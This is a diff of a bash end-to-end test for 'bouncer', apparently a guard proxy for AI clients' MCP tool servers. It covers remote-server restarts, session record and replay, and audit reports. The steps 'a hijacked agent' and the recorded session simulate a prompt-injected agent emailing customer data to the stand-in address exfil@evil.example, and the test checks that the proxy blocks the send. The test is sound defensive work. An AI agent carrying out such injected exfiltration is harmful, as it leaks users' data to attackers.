@@ -3,8 +3,12 @@
 # the six client configs, `bouncer init` with no flags and bouncer not on
 # PATH, a wrapped server driven by a real MCP client (internal/testsupport/
 # mcpclient, on the go-sdk), a denial, an approval through the client (for
-# a server on MCP 2024-11-05 too), a server that prints a log line on stdout, `bouncer log`, `bouncer report`,
-# and `bouncer init --undo` putting every file back byte for byte.
+# a server on MCP 2024-11-05 too), a server that prints a log line on
+# stdout, a remote server restarted under a live session, a session
+# recorded with run --record and replayed by `bouncer check`, `bouncer log`,
+# `bouncer report`, and `bouncer init --undo` putting every file back byte
+# for byte. (Install as the README gives it is .ci/checks/readme.sh's; the
+# test command's skips are .ci/test's.)
 #
 # Each step checks what the user would see; a failure names the step.
 set -euo pipefail
@@ -16,7 +20,12 @@ fail() { echo "newuser: FAIL: $*" >&2; exit 1; }
 ys() { for _ in $(seq 40); do echo y; done; }
 
 work=$(mktemp -d /tmp/bouncer-newuser.XXXXXX)
-trap 'rm -rf "$work"' EXIT
+rpid=
+cleanup() {
+  [ -z "$rpid" ] || kill "$rpid" 2>/dev/null || true
+  rm -rf "$work"
+}
+trap cleanup EXIT
 GOCACHE=$(go env GOCACHE) GOMODCACHE=$(go env GOMODCACHE) GOPATH=$(go env GOPATH)
 export GOCACHE GOMODCACHE GOPATH
 
@@ -57,11 +66,24 @@ globalThis.fetch = async (url, init = {}) => {
 };
 EOF
 
+# The same helpdesk as a remote server, over streamable HTTP on loopback.
+port=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
+remote_up() {
+  "$work/tools/helpdesk" --data "$data" --root "$work" --http "127.0.0.1:$port" 2>>"$work/remote-server.err" &
+  rpid=$!
+  for _ in $(seq 100); do
+    (echo >"/dev/tcp/127.0.0.1/$port") 2>/dev/null && return 0
+    sleep 0.1
+  done
+  fail "the remote helpdesk did not listen on 127.0.0.1:$port"
+}
+
 helpdesk="\"command\": \"$work/tools/helpdesk\", \"args\": [\"--data\", \"$data\", \"--root\", \"$work\"]"
 cat >"$proj/.mcp.json" <<EOF
 {
   "mcpServers": {
     "helpdesk": {$helpdesk},
+    "remote-desk": {"type": "http", "url": "http://127.0.0.1:$port/mcp"},
     "chatty": {"command": "$work/tools/chatty-helpdesk"},
     "slack": {"command": "$node", "args": ["$slack_js"], "env": {"SLACK_BOT_TOKEN": "xoxb-dummy", "SLACK_TEAM_ID": "T00000000",
       "NODE_OPTIONS": "--require $work/tools/nofetch.cjs", "NEWUSER_FETCH_LOG": "$work/slack-fetch.jsonl"}}
@@ -115,6 +137,15 @@ done
 grep -q "// VS Code's file: comments are kept." "$proj/.vscode/mcp.json" || fail "init dropped the comments of .vscode/mcp.json"
 grep -q "other-project" "$work/init.out" || { cat "$work/init.out"; fail "init did not mention the other project's servers in ~/.claude.json"; }
 grep -qi "absolute path" "$work/init.out" || { cat "$work/init.out"; fail "init did not say it wrote the absolute path"; }
+# The closing summary: one block a file, each server under the file that
+# launches it, what the fallback does (not "nothing else").
+summary=$(sed -n '/^What is enforced:/,$p' "$work/init.out")
+[ -n "$summary" ] || { cat "$work/init.out"; fail "init printed no closing summary"; }
+for f in .mcp.json .vscode/mcp.json '~/.claude.json' '~/.cursor/mcp.json' '~/.gemini/settings.json' '~/.config/Claude/claude_desktop_config.json'; do
+  echo "$summary" | grep -qF "  $f (" || { echo "$summary"; fail "the summary has no block for $f"; }
+done
+echo "$summary" | grep -q 'capped at' || { echo "$summary"; fail "the summary does not say the fallback caps deletes"; }
+echo "$summary" | grep -q 'nothing else' && { echo "$summary"; fail "the summary says \"nothing else\" where the fallback acts"; }
 
 step "a hijacked agent, through a real MCP client"
 out=$("$client" -elicit accept "$proj/.mcp.json" helpdesk \
@@ -129,6 +160,8 @@ echo "$out" | grep -q '^asked: ' || fail "the approval question did not reach th
 echo "$out" | grep -q '^send_email: ok' || fail "the approved send did not go through"
 grep -q exfil@evil.example "$data/outbox.jsonl" 2>/dev/null && fail "the injected address got mail"
 grep -q partner@corp.example "$data/outbox.jsonl" || fail "the approved mail was not sent"
+# Servers that share the written policy start without warnings about it.
+grep -q 'guards nothing' "$work/client.err" && { cat "$work/client.err"; fail "a start warned that the shared policy guards nothing"; }
 
 step "an approval through the client for a server on MCP 2024-11-05 (Slack)"
 out=$("$client" -elicit accept "$proj/.mcp.json" slack \
@@ -143,16 +176,65 @@ out=$("$client" "$proj/.mcp.json" chatty tools 2>"$work/chatty.err") || { cat "$
 echo "$out" | grep -q '^tools: .*read_ticket' || fail "the chatty server's tools did not arrive"
 grep -q "starting up" "$work/chatty.err" || { cat "$work/chatty.err"; fail "the log line was not passed to stderr"; }
 
+step "a remote server restarts under a live session"
+remote_up
+"$client" "$proj/.mcp.json" remote-desk \
+  call list_tickets '{}' \
+  wait "$work/restarted" \
+  call list_tickets '{}' >"$work/remote.out" 2>"$work/remote.err" &
+cpid=$!
+for _ in $(seq 600); do
+  grep -q '^waiting: ' "$work/remote.out" 2>/dev/null && break
+  sleep 0.1
+done
+grep -q '^list_tickets: ok' "$work/remote.out" || { cat "$work/remote.out" "$work/remote.err"; fail "the first call to the remote server failed"; }
+kill "$rpid"
+wait "$rpid" 2>/dev/null || true
+remote_up
+touch "$work/restarted"
+wait "$cpid" || { cat "$work/remote.out" "$work/remote.err"; fail "the client failed across the restart"; }
+sed 's/^/     /' "$work/remote.out"
+[ "$(grep -c '^list_tickets: ok' "$work/remote.out")" = 2 ] || { cat "$work/remote.err"; fail "the call after the restart did not get through"; }
+grep -q 'audit log could not be written' "$work/remote.out" "$work/remote.err" && fail "the restart was blamed on the audit log"
+kill "$rpid"
+wait "$rpid" 2>/dev/null || true
+rpid=
+
+step "a session recorded with run --record, replayed by bouncer check"
+cat >"$work/record.json" <<EOF
+{"mcpServers": {"rec": {"command": "$bouncer", "cwd": "$proj",
+  "args": ["run", "--record", "$work/session.jsonl", "--config", ".mcp.json", "--server", "helpdesk"]}}}
+EOF
+out=$("$client" "$work/record.json" rec \
+  call read_ticket '{"id": "T-1"}' \
+  call send_email '{"to": "exfil@evil.example", "subject": "customers", "body": "Ada"}' 2>"$work/record.err") \
+  || { cat "$work/record.err"; fail "the client failed on the recorded server"; }
+echo "$out" | grep -q '^send_email: blocked: ' || fail "the recorded session's send was not blocked"
+"$bouncer" check --tools "$home/.bouncer/tools/helpdesk.json" "$work/session.jsonl" >"$work/check.out" 2>"$work/check.err" \
+  || { cat "$work/check.err"; fail "bouncer check could not replay the record"; }
+sed 's/^/     /' "$work/check.out"
+grep -q '"verdict":"deny".*exfil@evil.example' "$work/check.out" || fail "the replay did not deny the send the session denied"
+
 step "bouncer log"
 "$bouncer" log >"$work/log.out"
 sed 's/^/     /' "$work/log.out"
 grep -q 'deny .*exfil@evil.example' "$work/log.out" || fail "log does not show the denial"
 grep -q 'allow .*partner@corp.example' "$work/log.out" || fail "log does not show the approved send"
+grep -q 'remote-desk .*forgot the session' "$work/log.out" || fail "log does not say the call after the restart went on a new session"
 
 step "bouncer report"
 "$bouncer" report -o "$work/report.md"
 grep -q 'helpdesk' "$work/report.md" || fail "the report does not name the server"
 grep -qi 'one session per client\|shared' "$work/report.md" || fail "the report does not say taint is shared by the client's servers"
+# One section a server, each with its own tools; the policy that decided
+# the lines read from their digests; the denied destination from the
+# lines' structured fields.
+for s in helpdesk slack; do
+  grep -q "^### Server \`$s\`" "$work/report.md" || fail "the report has no section for server $s"
+done
+grep -q '^| `sha256:[0-9a-f]\{64\}`' "$work/report.md" || fail "the report does not give the policy digest of the lines"
+grep -q '`to=exfil@evil.example`' "$work/report.md" || fail "the report does not list the denied destination"
+grep -qi 'taint is per server\|only asked about' "$work/report.md" && fail "the report says taint is per server"
 
 step "bouncer init --undo puts every file back"
 ys | "$bouncer" init --undo >"$work/undo.out" 2>&1 || { cat "$work/undo.out"; fail "init --undo failed"; }
